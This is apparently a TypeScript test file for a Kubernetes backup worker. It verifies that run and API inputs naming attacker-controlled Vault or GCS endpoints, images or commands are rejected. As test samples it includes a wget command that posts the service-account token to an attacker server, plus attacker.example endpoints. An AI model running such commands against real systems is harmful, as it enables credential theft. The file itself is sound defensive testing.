// Where the backup agent's credentials go: its Jobs log in to Vault with their service-account token and
// write to GCS with their credentials, so the Vault address, the GCS endpoint and the image come from the
// worker's configuration only. A run (or an API start) naming one is refused before anything is created;
// an attacker's server named there receives nothing; an honest run then backs up the same volume with the
// worker's destinations (docs/SECURITY.md, "Where the worker's credentials go").
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { SNAPSHOT_API_VERSION } from '../../activities/kubernetes/builders/backup.ts';
import { localServer, runFailure, type LocalServer } from '../activities/_support.ts';
import { apiTestEnv, type ApiTestEnv } from '../support/api.ts';
import { gcsUrl, vaultEnv } from './_agent-support.ts';
import { recordingProxy } from './_recording-proxy.ts';
import { backupHarness, noLeftovers, type BackupHarness } from './_workflow-support.ts';

describe("backup agent destinations are the worker's", { concurrency: false }, () => {
  let h: BackupHarness;
  let attacker: LocalServer;
  before(async () => {
    h = await backupHarness();
    attacker = await localServer((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{}'));
  });
  after(async () => {
    await attacker?.close();
    await h?.close();
  });

  it('a run whose input names an attacker endpoint is refused before any Job is created; the attacker receives nothing', { timeout: 180_000 }, async () => {
    const ns = await h.namespace('bk-dest');
    await h.volume(ns, 'data', { 'secret.txt': 'club data\n' });
    const evil = attacker.url('');
    const manifest = 'mayastor/x/y/20261121T073000Z-ab12cd34ef/manifest.json';
    const cases: [string, string, Record<string, unknown>, RegExp][] = [
      ['nightly agent.gcsEndpoint', 'nightlyBackup', h.nightlyInput([ns], { agent: { ...h.agent, gcsEndpoint: evil } }), /input\.agent: Unrecognized key: "gcsEndpoint"/],
      ['nightly vault.address', 'nightlyBackup', h.nightlyInput([ns], { vault: { ...h.vault, address: evil } }), /input\.vault: Unrecognized key: "address"/],
      ['nightly agent.image', 'nightlyBackup', h.nightlyInput([ns], { agent: { ...h.agent, image: 'attacker/exfiltrate:latest' } }), /input\.agent: Unrecognized key: "image"/],
      ['nightly agent.command', 'nightlyBackup', h.nightlyInput([ns], { agent: { ...h.agent, command: ['sh', '-c', `wget --post-file=/var/run/secrets/kubernetes.io/serviceaccount/token ${evil}`] } }), /input\.agent: Unrecognized key: "command"/],
      ['restore vault.address', 'backupRestore', { bucket: h.bucket, manifest, namespace: ns, pvc: 'restored', agent: h.agent, vault: { ...h.vault, address: evil } }, /input\.vault: Unrecognized key: "address"/],
      ['restore test agent.gcsEndpoint', 'backupRestoreTest', { bucket: h.bucket, volumes: [{ namespace: ns, pvc: 'data' }], agent: { ...h.agent, gcsEndpoint: evil }, vault: h.vault }, /input\.agent: Unrecognized key: "gcsEndpoint"/],
    ];
    for (const [what, type, input, message] of cases) {
      const failure = await runFailure(await h.start(type, input));
      assert.ok(failure.types.includes('InvalidInput'), `${what}: ${failure.text}`);
      assert.match(failure.text, message, what);
    }
    const jobs = await h.client.list('batch/v1', 'Job', { namespace: ns });
    assert.deepEqual(jobs.items.map((j) => j.metadata.name), [], 'no Job was created');
    const snapshots = await h.client.list(SNAPSHOT_API_VERSION, 'VolumeSnapshot', { namespace: ns });
    assert.equal(snapshots.items.length, 0, 'no snapshot was created');
    assert.equal(h.sim.agentRuns.filter((r) => r.namespace === ns).length, 0, 'no agent ran');
    assert.deepEqual(attacker.requests, [], 'the attacker received nothing');

    // The same volume, honestly: backed up through the worker's Vault and GCS, and still nothing for the attacker.
    const handle = await h.start('nightlyBackup', h.nightlyInput([ns]));
    const report = (await handle.result().catch(async (err) => {
      throw new Error((await runFailure(handle)).text, { cause: err });
    })) as { succeeded: number; text: string };
    assert.equal(report.succeeded, 1, report.text);
    const runs = h.sim.agentRuns.filter((r) => r.namespace === ns);
    assert.equal(runs.length, 1, JSON.stringify(runs));
    assert.equal(runs[0]!.exitCode, 0);
    assert.deepEqual(attacker.requests, [], 'the attacker received nothing');
    await noLeftovers(h, [ns]);
  });

  it("the agent's own destinations: CEDILLE_BACKUP_AGENT_VAULT_ADDR and _GCS_ENDPOINT over the worker's", { timeout: 180_000 }, async () => {
    const ns = await h.namespace('bk-dest-cfg');
    await h.volume(ns, 'data', { 'a.txt': 'a\n' });
    // The agent reaches Vault and GCS through these (say, in-cluster addresses); the worker keeps its own.
    const vault = await recordingProxy(vaultEnv().addr);
    const gcs = await recordingProxy(gcsUrl());
    process.env.CEDILLE_BACKUP_AGENT_VAULT_ADDR = `${vault.url}/`;
    process.env.CEDILLE_BACKUP_AGENT_GCS_ENDPOINT = gcs.url;
    try {
      const handle = await h.start('nightlyBackup', h.nightlyInput([ns]));
      const report = (await handle.result().catch(async (err) => {
        throw new Error((await runFailure(handle)).text, { cause: err });
      })) as { succeeded: number; text: string };
      assert.equal(report.succeeded, 1, report.text);
      assert.ok(vault.seen.some((r) => r.startsWith('POST /v1/auth/kubernetes/login')), `the agent logged in there: ${vault.seen.join(', ')}`);
      assert.ok(vault.seen.some((r) => r.startsWith('POST /v1/transit/datakey/')), vault.seen.join(', '));
      assert.ok(!vault.seen.some((r) => r.includes('/v1/transit/keys/')), "the worker's preflight used its own VAULT_ADDR");
      assert.ok(gcs.seen.some((r) => r.includes(`/o?`) || r.includes('/upload/')), `the agent uploaded there: ${gcs.seen.join(', ')}`);
      assert.deepEqual(attacker.requests, []);
    } finally {
      delete process.env.CEDILLE_BACKUP_AGENT_VAULT_ADDR;
      delete process.env.CEDILLE_BACKUP_AGENT_GCS_ENDPOINT;
      await vault.close();
      await gcs.close();
    }
    await noLeftovers(h, [ns]);
  });
});

describe('an API start naming a backup agent destination', () => {
  let api: ApiTestEnv;
  before(async () => {
    api = await apiTestEnv();
  });
  after(async () => {
    await api?.close();
  });

  it('is a 422 naming the field', async () => {
    const res = await api.as('admin', {
      method: 'POST',
      url: '/v1/runs',
      payload: { definition: 'backup-nightly', input: { bucket: 'cedille-backups', agent: { gcsEndpoint: 'http://attacker.example' }, vault: { address: 'http://attacker.example', transitKey: 'backups' } } },
    });
    assert.equal(res.statusCode, 422, res.body);
    assert.deepEqual(res.json().errors, [
      { field: 'body.input.agent', message: 'Unrecognized key: "gcsEndpoint"' },
      { field: 'body.input.vault', message: 'Unrecognized key: "address"' },
    ]);
  });
});

